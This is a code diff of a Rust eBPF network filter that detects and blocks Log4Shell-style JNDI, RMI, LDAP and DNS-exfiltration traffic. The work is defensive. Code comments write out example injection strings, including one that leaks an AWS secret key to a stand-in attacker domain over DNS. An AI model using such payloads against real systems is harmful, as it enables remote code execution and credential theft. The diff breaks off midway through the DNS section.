@@ -4,14 +4,32 @@
 use core::{mem};
 use memoffset::offset_of;
 use aya_bpf::{
-    maps::{HashMap, PerfEventArray, Array},
-    cty::{c_int, c_uint},
-    bindings::{xdp_action, TC_ACT_PIPE, TC_ACT_SHOT},
+    maps::{HashMap, Array, PerCpuArray, PerCpuHashMap, LruPerCpuHashMap},
+    cty::c_int,
+    bindings::{xdp_action, TC_ACT_PIPE, TC_ACT_SHOT, __sk_buff},
     macros::{classifier, xdp, map, lsm},
     programs::{TcContext, XdpContext, LsmContext},
+    helpers::{bpf_ktime_get_ns, bpf_get_current_pid_tgid, gen::bpf_get_ns_current_pid_tgid},
+    BpfContext,
 };
+#[cfg(not(feature = "perf-events"))]
+use aya_bpf::maps::RingBuf;
+#[cfg(feature = "perf-events")]
+use aya_bpf::maps::PerfEventArray;
 use aya_log_ebpf::info;
-use trf_common::{EventLog};
+use trf_common::{REASON_NONE, REASON_OUTBOUND_TCP, REASON_OUTBOUND_HTTP, REASON_LDAP_PORT, REASON_BLOCKLIST,
+    REASON_LOOKUP, REASON_JNDI_REQUEST, REASON_LDAP_REQUEST, REASON_JRMP, REASON_JAVA_OBJECT, REASON_DNS,
+    REASON_INTERP, REASON_SIGNATURE};
+use trf_common::{EventAbi, EVENT_ABI, EVENT_VERSION, flow_id, SNIPPET_LEN, SIG_LOC_HEADER};
+#[cfg(not(feature = "perf-events"))]
+use trf_common::{EVENT_RING_SIZE, event_record_len, STAT_EVENTS_DROPPED};
+use trf_common::{STAT_MAX, STAT_PACKETS, STAT_DROPS, STAT_ALERTS, STAT_OVERRIDES, STAT_SIGNATURES, STAT_INTERP, STAT_JNDI,
+    STAT_INTERP_SIGS, STAT_LDAP_REQUESTS, STAT_JRMP, STAT_JAVA_OBJECTS, STAT_DNS_FLAGGED, STAT_LSM_CALLS, STAT_LSM_DENIED,
+    STAT_SUPPRESSED, STATE_MAP_ENTRIES, rule_drops_key};
+use trf_common::{FlowStats, FLOW_MAP_ENTRIES, VERBOSITY_DETECTIONS, VERBOSITY_ALL};
+use trf_common::{Injection, NAME_HASH_INIT, name_hash_mix, HOST_BYTES, qname_hash};
+use trf_common::{EventLog, Signature, SIG_MAX, SIG_DIR_OUTBOUND, SIG_DIR_INBOUND, SIG_ALERT, SIG_DROP, LDAP_DN_LEN, INTERP_SIGS, INTERP_SIG_LEN, FAMILY_JNDI, FAMILY_COMMONS_TEXT, FAMILY_SPEL, DNS_QUERY, DNS_CORRELATED, DNS_LONG_LABEL, DNS_KEY_PREFIX, DNS_ENTROPY, DNS_EXFIL,
+    DNS_ENTROPY_LABEL_LEN, dns_charset_add, dns_charset_high_entropy};
 
 // unrolls for loops 
 use unroll::unroll_for_loops;
@@ -21,10 +39,25 @@ use unroll::unroll_for_loops;
 #[allow(non_camel_case_types)]
 #[allow(dead_code)]
 mod bindings;
-use bindings::{ethhdr, iphdr, tcphdr, bpf_attr, bpf_attr__bindgen_ty_13, bpf_cmd};
+use bindings::{ethhdr, iphdr, tcphdr, bpf_cmd};
+use aya_bpf::bindings::bpf_pidns_info;
 
 mod ldap_bindings;
-use ldap_bindings::{LdapBindgs};
+use ldap_bindings::{LdapBindgs, BER_SEQUENCE, BER_INTEGER, BER_OCTET_STRING, SEARCH_REQUEST};
+
+mod signatures;
+use signatures::{PktLoad, PKT_OFFSET_MAX};
+#[cfg(not(feature = "no-bpf-loop"))]
+use signatures::{SigWindows, sig_windows, sig_match};
+use aya_bpf::{cty::c_void, helpers::gen::bpf_skb_load_bytes};
+#[cfg(not(feature = "no-bpf-loop"))]
+use aya_bpf::helpers::gen::bpf_loop;
+
+// EventLog ABI checked by userspace before loading the programs (trf_common::find_event_abi)
+#[no_mangle]
+#[used]
+#[link_section = "elogj_abi"]
+static ELOGJ_EVENT_ABI: EventAbi = EVENT_ABI;
 
 /** Logger Offset:
  * Since our Log4j logger example receives input from some
@@ -49,78 +82,432 @@ use ldap_bindings::{LdapBindgs};
 **/
 const LOGGER_INFO: [usize; 2] = core::include!("../../trf-common/header-offset.dat");
 const HEADER_SEQ: [u8; LOGGER_INFO[0]] = core::include!("../../trf-common/header-seq.dat"); // [88,45,65,112,105,45,86,101,114,115,105,111,110];
-const RULE_SET: [u32; 4usize] = core::include!("../../trf-common/rule-set.dat");
+const RULE_SET: [u32; 12usize] = core::include!("../../trf-common/rule-set.dat");
+const RULE_IDS: [u32; 10usize] = core::include!("../../trf-common/rule-ids.dat");   // rule file id of each RULE_SET entry (0..9)
 /*
     0: Block TCP (1) / Block HTTP (2)                           ----> NOTE: OUTBOUND TRAFFIC ONLY
     1: Block LDAP ports                                        --/   (Future work: custom ports / differentiate outbound/inbound traffic)
     2: Block JNDI lookup (1) / Block JNDI request (2)
     3: Block JNDI:LDAP lookup (1) / Block JNDI:LDAP request (2)
-
-    ex1: [1, 0, 0, 2]
-    ex2: [0, 0, 1, 1]
+    4: Allow (0) / Alert (1) / Drop (2) outbound LDAP requests  ----> bindRequest, unbindRequest, searchRequest
+    5: Allow (0) / Alert (1) / Drop (2) outbound JRMP (RMI) handshakes
+    6: Allow (0) / Alert (1) / Drop (2) / Drop and block serving host (3) Java class files and serialized objects
+    7: Allow (0) / Alert (1) / Drop exfil (2) / Drop exfil and correlated (3) outbound DNS queries (long labels: alert)
+    8: Disabled (0) / Alert (1) / Block request (2) Commons Text interpolation (Text4Shell)
+    9: Disabled (0) / Alert (1) / Block request (2) Spring expression (SpEL) injection
+   10: Payload snippets disabled (0) / captured (1)            ----> not a rule (`capture_snippets`)
+   11: Events for verdicts (0) / detections (1) / all packets (2) --> not a rule (`verbosity`)
+
+    ex1: [1, 0, 0, 2, 0, 0, 3, 2, 1, 1, 1, 1]
+    ex2: [0, 0, 1, 1, 1, 2, 1, 1, 2, 0, 0, 0]
 */
 
 // LDAP Ports; Based on: https://www.shodan.io/search/facet?query=LDAP&facet=port
 const LDAP_PORTS: [u16; 5] = [1389, 389, 636, 3268, 8081];
 
-// Payload bindings
-const JNDI: [u8; 6] = [36, 123, 106, 110, 100, 105];        // ${jndi
+// Payload bindings (interpolation signatures: trf_common::INTERP_SIGS)
 const LDAP: [u8; 5] = [58, 108, 100, 97, 112];              // :ldap
+const INTERP_OPEN: [u8; 2] = [36, 35];                      // $ , #
+const INTERP_BRACE: u8 = 123;                               // {
 // HTTP bindings
 const HTTP_RES: [u8; 4] = [72, 84, 84, 80];                 // HTTP/1.1 XXX
 const HTTP_GET: [u8; 3] = [71, 69, 84];                     // GET XXX
+// RMI bindings
+const JRMI: [u8; 4] = [74, 82, 77, 73];                     // JRMI (0x4a524d49)
+const JRMP_VERSION: u16 = 2;
+const JRMP_PROTOCOLS: [u8; 3] = [75, 76, 77];               // StreamProtocol , SingleOpProtocol , MultiplexProtocol
+const JRMP_RETURN_DATA: u8 = 81;                            // ReturnData (0x51)
+// Java bindings
+const JAVA_CLASS: [u8; 4] = [202, 254, 186, 190];           // CAFEBABE
+const JAVA_SER: [u8; 4] = [172, 237, 0, 5];                 // ACED0005 (STREAM_MAGIC , STREAM_VERSION)
+const JAVA_SER_ATTR: [u8; 18] = [106, 97, 118, 97, 83, 101, 114, 105, 97, 108, 105, 122, 101, 100, 68, 97, 116, 97]; // javaSerializedData
+const HTTP_HDR_END: [u8; 4] = [13, 10, 13, 10];             // \r\n\r\n
+const HTTP_HDR_MAX: usize = 512;                            // max bytes scanned for the end of the HTTP header
+const LDAP_ATTR_MAX: usize = 256;                           // max bytes scanned for the javaSerializedData attribute
+// DNS bindings
+const DNS_PORT: u16 = 53;
+const DNS_HDR_LEN: usize = 12;
+const DNS_LABEL_MAX: usize = 63;
+const DNS_LONG_LABEL_LEN: u8 = 24;
+const DNS_KEY_PREFIXES: [[u8; 4]; 2] = [[65, 75, 73, 65], [65, 83, 73, 65]]; // AKIA , ASIA (AWS access key ids)
+const DNS_CORRELATION_NS: u64 = 60_000_000_000;             // 60s since the last injection
+const LOOKUP_SCHEME_MAX: usize = 16;                        // `${jndi:` --> `://` (ldap, ldaps, rmi, dns, ${lower:l}dap ...)
+const SCHEME_SEP: [u8; 3] = [58, 47, 47];                   // ://
 
 const IPPROTO_TCP: u8 = 6; // 0x0006
+const IPPROTO_UDP: u8 = 17; // 0x0011
 const ETH_P_IP: u16 = 0x0800;
 const ETH_HDR_LEN: usize = mem::size_of::<ethhdr>();
 const IP_HDR_LEN: usize = mem::size_of::<iphdr>();
 const TCP_HDR_LEN: usize = mem::size_of::<tcphdr>();
 const TCP_DATA: usize = ETH_HDR_LEN + IP_HDR_LEN + TCP_HDR_LEN + 12; // +12 (TCP header opts)
+// udphdr isn't part of the generated bindings, source/dest ports share the tcphdr offsets
+const UDP_HDR_LEN: usize = 8;
+const UDP_DATA: usize = ETH_HDR_LEN + IP_HDR_LEN + UDP_HDR_LEN;
+
+/** (eBPF map) EVENTS:
+ * Single ring buffer shared by all CPUs: records are reserved/committed in
+ * order and sized by snippet class (trf_common::event_record_len).
+ * Built with the `perf-events` feature it falls back to a perf event array
+ * (one buffer per CPU, whole EventLog) for kernels without ring buffers (< 5.8).
+**/
+#[cfg(not(feature = "perf-events"))]
+#[map(name = "EVENTS")]
+static mut EVENTS: RingBuf = RingBuf::with_byte_size(EVENT_RING_SIZE, 0);
 
+#[cfg(feature = "perf-events")]
 #[map(name = "EVENTS")]
 static mut EVENTS: PerfEventArray<EventLog> = PerfEventArray::<EventLog>::with_max_entries(1024, 0);
 
+// EventLog scratch space: the event (snippet included) doesn't fit the 512 bytes eBPF stack
+#[map(name = "EVENT_BUF")]
+static mut EVENT_BUF: PerCpuArray<EventLog> = PerCpuArray::with_max_entries(1, 0);
+
 #[map(name = "RTX")]
-static mut RTX: HashMap<u32, u32> = HashMap::with_max_entries(1024, 0);
+static mut RTX: HashMap<u32, u32> = HashMap::with_max_entries(STATE_MAP_ENTRIES, 0);
 
 #[map(name = "WHLIST")]
-static mut WHLIST: HashMap<u32, u32> = HashMap::with_max_entries(1024, 0);
+static mut WHLIST: HashMap<u32, u32> = HashMap::with_max_entries(STATE_MAP_ENTRIES, 0);
 
 #[map(name = "BLOCKLIST")]
-static mut BLOCKLIST: HashMap<u32, u32> = HashMap::with_max_entries(1024, 0);
+static mut BLOCKLIST: HashMap<u32, u32> = HashMap::with_max_entries(STATE_MAP_ENTRIES, 0);
 
 #[map(name = "LOOKUPS")]
 static mut LOOKUPS: HashMap<u32, u32> = HashMap::with_max_entries(1, 0);
 
-#[map(name = "BOOTPID")]
-static mut BOOTPID: HashMap<u32, u32> = HashMap::with_max_entries(1, 0);
+// Workload address --> timestamp (ns) of the last `${jndi` injection
+#[map(name = "INJECTIONS")]
+static mut INJECTIONS: HashMap<u32, Injection> = HashMap::with_max_entries(STATE_MAP_ENTRIES, 0);
+
+// User defined signatures (loaded from userspace, see trf_common::Signature)
+#[map(name = "SIGNATURES")]
+static mut SIGNATURES: Array<Signature> = Array::with_max_entries(SIG_MAX, 0);
+
+// Counters (see trf_common::STAT_*), summed over the CPUs by trf
+#[map(name = "STATS")]
+static mut STATS: PerCpuArray<u64> = PerCpuArray::with_max_entries(STAT_MAX, 0);
+
+// Drops per (reason , rule id), see trf_common::rule_drops_key
+#[map(name = "RULE_DROPS")]
+static mut RULE_DROPS: PerCpuHashMap<u64, u64> = PerCpuHashMap::with_max_entries(STATE_MAP_ENTRIES, 0);
 
+// Per-flow counters (see trf_common::FlowStats), updated for every IPv4 packet
+#[map(name = "FLOWS")]
+static mut FLOWS: LruPerCpuHashMap<u32, FlowStats> = LruPerCpuHashMap::with_max_entries(FLOW_MAP_ENTRIES, 0);
+
+// pid (tgid) of trf in its own pid namespace, set by the loader: its own map operations (rules,
+// signatures, metrics) aren't restricted by bpflsm. TRF_PIDNS_DEV/INO identify that namespace (stat of /proc/self/ns/pid)
+#[no_mangle]
+static TRF_TGID: u32 = 0;
+#[no_mangle]
+static TRF_PIDNS_DEV: u64 = 0;
+#[no_mangle]
+static TRF_PIDNS_INO: u64 = 0;
+
+// Whether the current task belongs to trf: its tgid is resolved in trf's pid namespace
+// (bpf_get_current_pid_tgid is init namespace), tasks of any other namespace never match
 #[inline(always)]
-unsafe fn is_verified(key: u32) -> bool {
-    let val = WHLIST.get(&key);
-    if val.is_some() {
-        return true;
+unsafe fn is_trf() -> bool {
+    let mut ns = bpf_pidns_info { pid: 0, tgid: 0 };
+    let dev = core::ptr::read_volatile(&TRF_PIDNS_DEV);
+    let ino = core::ptr::read_volatile(&TRF_PIDNS_INO);
+    bpf_get_ns_current_pid_tgid(dev, ino, &mut ns, mem::size_of::<bpf_pidns_info>() as u32) == 0
+        && ns.tgid == core::ptr::read_volatile(&TRF_TGID)
+}
+
+#[inline(always)]
+fn count(stat: u32) {
+    if let Some(counter) = unsafe { STATS.get_ptr_mut(stat) } {
+        unsafe { *counter += 1 };
     }
-    false
 }
 
+// Verdict counters of a packet (etype: 0 => outbound , 1 => inbound)
 #[inline(always)]
-unsafe fn is_blocked(key: u32) -> bool {
-    let val = BLOCKLIST.get(&key);
-    if val.is_some() {
-        return true;
+fn count_verdict(etype: u32, eaction: &[u32; 3], reason: &[u32; 2]) {
+    if eaction[0] == 1 {
+        count(STAT_DROPS + etype);
+        let key = rule_drops_key(reason[0], reason[1]);
+        match unsafe { RULE_DROPS.get_ptr_mut(&key) } {
+            Some(counter) => unsafe { *counter += 1 },
+            None => unsafe { RULE_DROPS.insert(&key, &1, 0).ok(); },
+        }
+    }
+    if eaction[1] == 1 {
+        count(STAT_OVERRIDES + etype);
+    }
+    if eaction[2] == 1 {
+        count(STAT_ALERTS + etype);
+    }
+}
+
+// Copies the first N bytes of event to the ring buffer, false if it is full
+#[cfg(not(feature = "perf-events"))]
+#[inline(always)]
+fn ring_output<const N: usize>(event: &EventLog) -> bool {
+    match unsafe { EVENTS.reserve::<[u8; N]>(0) } {
+        Some(mut entry) => {
+            unsafe {
+                core::ptr::copy_nonoverlapping(event as *const EventLog as *const u8, entry.as_mut_ptr() as *mut u8, N);
+            }
+            entry.submit(0);
+            true
+        },
+        None => false,
+    }
+}
+
+// Sends an event (etype: 0 => outbound , 1 => inbound), dropped events are counted (STAT_EVENTS_DROPPED + etype)
+#[cfg(not(feature = "perf-events"))]
+#[inline(always)]
+fn output_event<C: BpfContext>(_ctx: &C, etype: u32, event: &EventLog) {
+    ring_output_event(etype, event);
+}
+
+// Global function (BTF linkage): the size class copies are verified once on their own,
+// not for every verifier state of the program reaching the output
+#[cfg(not(feature = "perf-events"))]
+#[no_mangle]
+#[inline(never)]
+pub extern "C" fn ring_output_event(etype: u32, event: *const EventLog) -> u32 {
+    let event = match unsafe { event.as_ref() } {
+        Some(event) => event,
+        None => return 0,
+    };
+    let sent = match event.esnip[1] as usize {
+        0 => ring_output::<{ event_record_len(0) }>(event),
+        1..=64 => ring_output::<{ event_record_len(64) }>(event),
+        65..=128 => ring_output::<{ event_record_len(128) }>(event),
+        129..=192 => ring_output::<{ event_record_len(192) }>(event),
+        _ => ring_output::<{ event_record_len(SNIPPET_LEN) }>(event),
+    };
+    if !sent {
+        count(STAT_EVENTS_DROPPED + etype);
+    }
+    sent as u32
+}
+
+// Perf fallback: lost events are reported by the perf buffers readers
+#[cfg(feature = "perf-events")]
+#[inline(always)]
+fn output_event<C: BpfContext>(ctx: &C, _etype: u32, event: &EventLog) {
+    unsafe { EVENTS.output(ctx, event, 0) };
+}
+
+// Flow counters of a packet (etype: 0 => outbound , 1 => inbound)
+#[inline(always)]
+fn count_flow(flow: u32, etype: u32, bytes: u64) {
+    let dir = (etype & 1) as usize;
+    let now = unsafe { bpf_ktime_get_ns() };
+    match unsafe { FLOWS.get_ptr_mut(&flow) } {
+        Some(stats) => unsafe {
+            (*stats).packets[dir] += 1;
+            (*stats).bytes[dir] += bytes;
+            if (*stats).first_ns == 0 {   // entry created on another CPU
+                (*stats).first_ns = now;
+            }
+            (*stats).last_ns = now;
+        },
+        None => {
+            let mut stats = FlowStats::default();
+            stats.packets[dir] = 1;
+            stats.bytes[dir] = bytes;
+            stats.first_ns = now;
+            stats.last_ns = now;
+            unsafe { FLOWS.insert(&flow, &stats, 0).ok(); }
+        },
+    }
+}
+
+/** Event verbosity (RULE_SET idx 11):
+ * Verdicts and state changes are always reported, detections
+ * from VERBOSITY_DETECTIONS and every packet with VERBOSITY_ALL.
+ * Other packets are only counted (STAT_SUPPRESSED + etype).
+**/
+#[inline(always)]
+fn emit_event(etype: u32, eaction: &[u32; 3], state: bool, detection: bool) -> bool {
+    let emit = RULE_SET[11] >= VERBOSITY_ALL
+        || eaction[0] == 1 || eaction[1] == 1 || eaction[2] == 1 || state
+        || (RULE_SET[11] >= VERBOSITY_DETECTIONS && detection);
+    if !emit {
+        count(STAT_SUPPRESSED + etype);
+    }
+    emit
+}
+
+// Returns the whitelist entry (index + 1)
+#[inline(always)]
+unsafe fn is_verified(key: u32) -> Option<u32> {
+    match WHLIST.get(&key) {
+        Some(entry) => Some(*entry),
+        None => None,
     }
-    false
 }
 
+// Returns the id of the rule that blocked key
 #[inline(always)]
-unsafe fn block_addr(key: u32) {
-    match BLOCKLIST.insert(&key, &1, 0) {
+unsafe fn is_blocked(key: u32) -> Option<u32> {
+    match BLOCKLIST.get(&key) {
+        Some(rule) => Some(*rule),
+        None => None,
+    }
+}
+
+#[inline(always)]
+unsafe fn block_addr(key: u32, rule: u32) {
+    match BLOCKLIST.insert(&key, &rule, 0) {
         Ok(_) => {},
         Err(_) => {},
     }
 }
 
+// Verdict reason [code , rule id]: the first rule that triggered the verdict is kept
+#[inline(always)]
+fn set_reason(reason: &mut [u32; 2], code: u32, rule: u32) {
+    if reason[0] == REASON_NONE {
+        reason[0] = code;
+        reason[1] = rule;
+    }
+}
+
+// Rule id of the JNDI (idx 2) / JNDI:LDAP (idx 3) rule in use
+#[inline(always)]
+fn jndi_rule_id() -> u32 {
+    if RULE_SET[2] != 0 {
+        return RULE_IDS[2];
+    }
+    RULE_IDS[3]
+}
+
+/** User defined signatures:
+ * Matches every signature loaded for direction against its location
+ * window (header / URI / body / LDAP) of the TCP payload at base.
+ * Returns the (id , action , location , match offset) of the first match.
+ * One bpf_loop iteration per signature, each one scanning its window
+ * with a nested bpf_loop (see signatures::sig_match).
+**/
+#[cfg(not(feature = "no-bpf-loop"))]
+struct SigSearch<'a, C> {
+    ctx: &'a C,
+    direction: u32,
+    windows: SigWindows,
+    found: Option<(u32, u32, u32, usize)>,
+}
+
+#[cfg(not(feature = "no-bpf-loop"))]
+extern "C" fn sig_search_step<C: PktLoad>(index: u32, data: *mut c_void) -> i64 {
+    let search = unsafe { &mut *(data as *mut SigSearch<C>) };
+    let sig = match unsafe { SIGNATURES.get(index) } {
+        Some(sig) if sig.len != 0 => sig,
+        _ => return 1,     // signatures are loaded from index 0, first empty slot ends the list
+    };
+    if sig.direction != search.direction {
+        return 0;
+    }
+    match sig_match(search.ctx, sig, search.windows.get(sig.location)) {
+        Some(offset) => {
+            search.found = Some((sig.id, sig.action, sig.location, offset));
+            1
+        },
+        None => 0,
+    }
+}
+
+#[cfg(not(feature = "no-bpf-loop"))]
+#[inline(always)]
+unsafe fn match_signatures<C: PktLoad>(ctx: &C, direction: u32, base: usize) -> Option<(u32, u32, u32, usize)> {
+    let mut search = SigSearch { ctx, direction, windows: sig_windows(ctx, base), found: None };
+    bpf_loop(SIG_MAX, sig_search_step::<C> as *mut c_void, &mut search as *mut SigSearch<C> as *mut c_void, 0);
+    search.found
+}
+
+// no-bpf-loop objects (kernels < 5.17, perf-events included): signatures are not matched, trf warns when some are configured
+#[cfg(feature = "no-bpf-loop")]
+#[inline(always)]
+unsafe fn match_signatures<C: PktLoad>(_ctx: &C, _direction: u32, _base: usize) -> Option<(u32, u32, u32, usize)> {
+    None
+}
+
+// Global function (TC), see lookup_host_skb: found is set to [id , action , location , match offset] on a match
+#[no_mangle]
+#[inline(never)]
+pub extern "C" fn match_signatures_skb(skb: *mut __sk_buff, direction: u32, found: *mut [u32; 4]) -> u32 {
+    let found = match unsafe { found.as_mut() } {
+        Some(found) => found,
+        None => return 0,
+    };
+    match unsafe { match_signatures(&TcContext::new(skb), direction, TCP_DATA) } {
+        Some((id, action, location, offset)) => {
+            *found = [id, action, location, offset as u32];
+            1
+        },
+        None => 0,
+    }
+}
+
+/** Payload snippet:
+ * Copies the matched bytes starting at offset (header value, URI fragment,
+ * signature match) up to the end of the line or SNIPPET_LEN bytes.
+ * Skipped if snippets are disabled (RULE_SET idx 10), returns the length.
+ * The rest of snippet is zeroed: EVENT_BUF is reused per CPU and the bytes
+ * past the length are sent too (ring size class padding , perf full event).
+ * No early exit: the bytes from the end of the line on are masked, a break
+ * per offset would be one more verifier state for the rest of the program.
+**/
+struct SnipCopy<'a, C> {
+    ctx: &'a C,
+    offset: usize,
+    snippet: &'a mut [u8; SNIPPET_LEN],
+    open: u32,      // 0 from the end of the line on
+    len: u32,
+}
+
+#[inline(always)]
+fn snip_copy_byte<C: PktLoad>(copy: &mut SnipCopy<C>, i: usize) {
+    if i >= SNIPPET_LEN {
+        return;
+    }
+    let (byte, end) = match copy.ctx.byte(copy.offset + i) {
+        Some(13) | Some(10) | None => (0, 1),
+        Some(byte) => (byte, 0),
+    };
+    copy.open &= end ^ 1;
+    copy.snippet[i] = byte & (copy.open as u8).wrapping_neg();
+    copy.len += copy.open;
+}
+
+// bpf_loop objects: one callback for the SNIPPET_LEN bytes (see signatures::sig_match)
+#[cfg(not(feature = "no-bpf-loop"))]
+extern "C" fn snip_copy_step<C: PktLoad>(index: u32, data: *mut c_void) -> i64 {
+    snip_copy_byte(unsafe { &mut *(data as *mut SnipCopy<C>) }, index as usize);
+    0
+}
+
+#[inline(always)]
+fn copy_snippet<C: PktLoad>(ctx: &C, offset: usize, snippet: &mut [u8; SNIPPET_LEN]) -> u32 {
+    let open = (RULE_SET[10] != 0 && offset != 0) as u32;
+    let mut copy = SnipCopy { ctx, offset, snippet, open, len: 0 };
+    #[cfg(not(feature = "no-bpf-loop"))]
+    unsafe {
+        bpf_loop(SNIPPET_LEN as u32, snip_copy_step::<C> as *mut c_void, &mut copy as *mut SnipCopy<C> as *mut c_void, 0);
+    }
+    #[cfg(feature = "no-bpf-loop")]
+    for i in 0..SNIPPET_LEN {
+        snip_copy_byte(&mut copy, i);
+    }
+    copy.len
+}
+
+// Global function (TC), see lookup_host_skb: copied once for the states of try_egtrf reaching the event
+#[no_mangle]
+#[inline(never)]
+pub extern "C" fn copy_snippet_skb(skb: *mut __sk_buff, offset: u32, snippet: *mut [u8; SNIPPET_LEN]) -> u32 {
+    match unsafe { snippet.as_mut() } {
+        Some(snippet) => copy_snippet(&TcContext::new(skb), offset as usize, snippet),
+        None => 0,
+    }
+}
+
 // Update RTX w/ internal counter, returns count.
 #[inline(always)]
 unsafe fn update_RTX(key: u32) -> Option<u32> {
@@ -182,15 +569,308 @@ pub fn intrf(ctx: XdpContext) -> u32 {
 // ptr_at function to access packet data (byte - u8)
 #[inline(always)]
 unsafe fn ptr_at<T>(ctx: &XdpContext, offset: usize) -> Result<*const T, ()> {
-    let start = ctx.data();
-    let end = ctx.data_end();
-    let len = mem::size_of::<T>();
+    // BER lengths can push offsets past the packet range the verifier accepts
+    if offset >= PKT_OFFSET_MAX {
+        return Err(());
+    }
+    // black_box: keeps the constant `+ len` check, folded to `>=` (u8) the verifier gets no packet range
+    let ptr = core::hint::black_box(ctx.data() + offset);
+    if ptr + mem::size_of::<T>() > ctx.data_end() {
+        return Err(());
+    }
+
+    Ok(ptr as *const T)
+}
+
+/** BER length:
+ * Short form (single byte) or long form (0x80 | N followed
+ * by N bytes, N <= 4). Returns the decoded length and the
+ * number of bytes used by the length field itself.
+ * The long form bytes are read as one big endian u32 shifted
+ * by N (branch free, one verifier state for every N), the
+ * 4 bytes after 0x80 | N must be in the packet.
+**/
+#[inline(always)]
+unsafe fn ber_len(ctx: &XdpContext, offset: usize) -> Result<(usize, usize), ()> {
+    let fbyte: u8 = *ptr_at(ctx, offset)?;
+    if fbyte & 0x80 == 0 {
+        return Ok((fbyte as usize, 1));
+    }
+    let n = (fbyte & 0x7f) as usize;
+    if n == 0 || n > 4 {
+        return Err(());
+    }
+    let bytes: [u8; 4] = *ptr_at(ctx, offset + 1)?;
+    let len = u32::from_be_bytes(bytes) >> (8 * (4 - n));
+    Ok((len as usize, n + 1))
+}
+
+/** BER length size:
+ * Bytes used by the length field at offset (the length itself
+ * isn't read). Branch free for the scans that only skip the
+ * field: one verifier state for short and long forms.
+**/
+#[inline(always)]
+unsafe fn ber_len_size(ctx: &XdpContext, offset: usize) -> Result<usize, ()> {
+    let fbyte: u8 = *ptr_at(ctx, offset)?;
+    let long = core::hint::black_box(0u8.wrapping_sub(fbyte >> 7));     // 0xff for the long form
+    let n = (fbyte & 0x7f & long) as usize;
+    if fbyte == 0x80 || n > 4 {
+        return Err(());
+    }
+    Ok(n + 1)
+}
+
+/** LDAP requests (outbound):
+ * Same data format as the responses parsed in try_intrf, although
+ * offsets are taken from the BER lengths since the JNDI client
+ * encodes the LDAPMessage length in long form (0x84 X X X X).
+ *
+ *      48 L                -- Beginning of LDAP msg
+ *         2 L' ID          -- MessageID
+ *         Op L''           -- ProtocolOp (96 / 66 / 99)
+ *            4 L''' DN     -- baseObject (searchRequest only)
+ *
+ * The searchRequest baseObject holds the object path requested by
+ * the injected lookup (ex: ${jndi:ldap://host:1389/Exploit} --> Exploit),
+ * up to LDAP_DN_LEN bytes are copied to edn.
+**/
+#[inline(always)]
+unsafe fn ldap_req(ctx: &XdpContext, edn: &mut [u8; LDAP_DN_LEN]) -> Result<u8, ()> {
+    let bindgs: LdapBindgs = LdapBindgs::new();
+    let mut off = TCP_DATA;
+
+    let fbyte: u8 = *ptr_at(ctx, off)?;
+    if fbyte != BER_SEQUENCE {
+        return Err(());
+    }
+    off += 1 + ber_len(ctx, off + 1)?.1;
+
+    let tag: u8 = *ptr_at(ctx, off)?;
+    if tag != BER_INTEGER {
+        return Err(());
+    }
+    let (idlen, lsz) = ber_len(ctx, off + 1)?;
+    off += 1 + lsz + idlen;
+
+    let protocolOp: u8 = *ptr_at(ctx, off)?;
+    if !bindgs.check_protocol_req_op_type(protocolOp) {
+        return Err(());
+    }
+
+    if protocolOp == SEARCH_REQUEST {
+        if let Ok((_, lsz)) = ber_len(ctx, off + 1) {
+            off += 1 + lsz;
+            let tag: u8 = match ptr_at::<u8>(ctx, off) {
+                Ok(byte) => *byte,
+                Err(_) => 0,
+            };
+            if tag == BER_OCTET_STRING {
+                if let Ok((dnlen, lsz)) = ber_len(ctx, off + 1) {
+                    off += 1 + lsz;
+                    for i in 0..LDAP_DN_LEN {
+                        if i >= dnlen {
+                            break;
+                        }
+                        match ptr_at::<u8>(ctx, off + i) {
+                            Ok(byte) => edn[i] = *byte,
+                            Err(_) => break,
+                        }
+                    }
+                }
+            }
+        }
+    }
+
+    Ok(protocolOp)
+}
+
+/** JRMP handshake (outbound):
+ * RMI calls (ex: ${jndi:rmi://host:1099/Exploit}) open with the
+ * JRMP header, regardless of the port the registry is bound to.
+ *
+ *      74 82 77 73     -- Magic ('JRMI')
+ *      0 2             -- Version
+ *      Y               -- Protocol (75 / 76 / 77)
+**/
+#[inline(always)]
+#[unroll_for_loops]
+unsafe fn jrmp_hdr(ctx: &XdpContext) -> Result<u8, ()> {
+    for i in 0..4 {
+        let byte: u8 = *ptr_at(ctx, TCP_DATA + i)?;
+        if byte != JRMI[i] {
+            return Err(());
+        }
+    }
+    let version = u16::from_be(*ptr_at(ctx, TCP_DATA + JRMI.len())?);
+    let protocol: u8 = *ptr_at(ctx, TCP_DATA + JRMI.len() + 2)?;
+    if version != JRMP_VERSION || JRMP_PROTOCOLS.iter().all(|p| p != &protocol) {
+        return Err(());
+    }
+    Ok(protocol)
+}
+
+// Compare packet bytes (starting at offset) with seq, None past the end of the packet
+#[inline(always)]
+unsafe fn seq_at<const N: usize>(ctx: &XdpContext, offset: usize, seq: &[u8; N]) -> Option<bool> {
+    let bytes = &*ptr_at::<[u8; N]>(ctx, offset).ok()?;     // one bounds check for the N bytes
+    let mut diff = 0u8;
+    for i in 0..N {
+        diff |= bytes[i] ^ seq[i];
+    }
+    // black_box: LLVM otherwise turns it back into a branch per byte (a verifier state each)
+    Some(core::hint::black_box(diff) == 0)
+}
+
+#[inline(always)]
+unsafe fn match_at<const N: usize>(ctx: &XdpContext, offset: usize, seq: &[u8; N]) -> bool {
+    seq_at(ctx, offset, seq) == Some(true)
+}
+
+/** Java payloads:
+ * Last stage of a JNDI lookup, the vulnerable host either
+ * fetches a class file (HTTP) or receives a serialized object
+ * (LDAP / RMI). Both are identified by their magic number:
+ *      1 => class file         (CAFEBABE)
+ *      2 => serialized object  (ACED0005)
+**/
+#[inline(always)]
+unsafe fn java_magic(ctx: &XdpContext, offset: usize) -> u32 {
+    if match_at(ctx, offset, &JAVA_CLASS) {
+        return 1;
+    } else if match_at(ctx, offset, &JAVA_SER) {
+        return 2;
+    }
+    0
+}
 
-    if start + offset + len > end {
+/** DNS queries (outbound):
+ * ${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.tld} resolves the
+ * nested lookup first, leaking the secret as the leftmost QNAME label.
+ *
+ *      X X F F Q Q X X X X X X     -- Header (F: flags, QR bit = 0 ; Q: QDCOUNT)
+ *      L label L label ... 0       -- QNAME
+ *
+ * The first label is checked for length, key-like prefixes and the number
+ * of distinct characters (entropy). The LDAP_DN_LEN bytes from the QNAME
+ * on are copied to edn as is (the bytes past its zero label are kept).
+ * Queries sent by saddr within DNS_CORRELATION_NS of an injection are
+ * flagged as correlated.
+**/
+#[inline(always)]
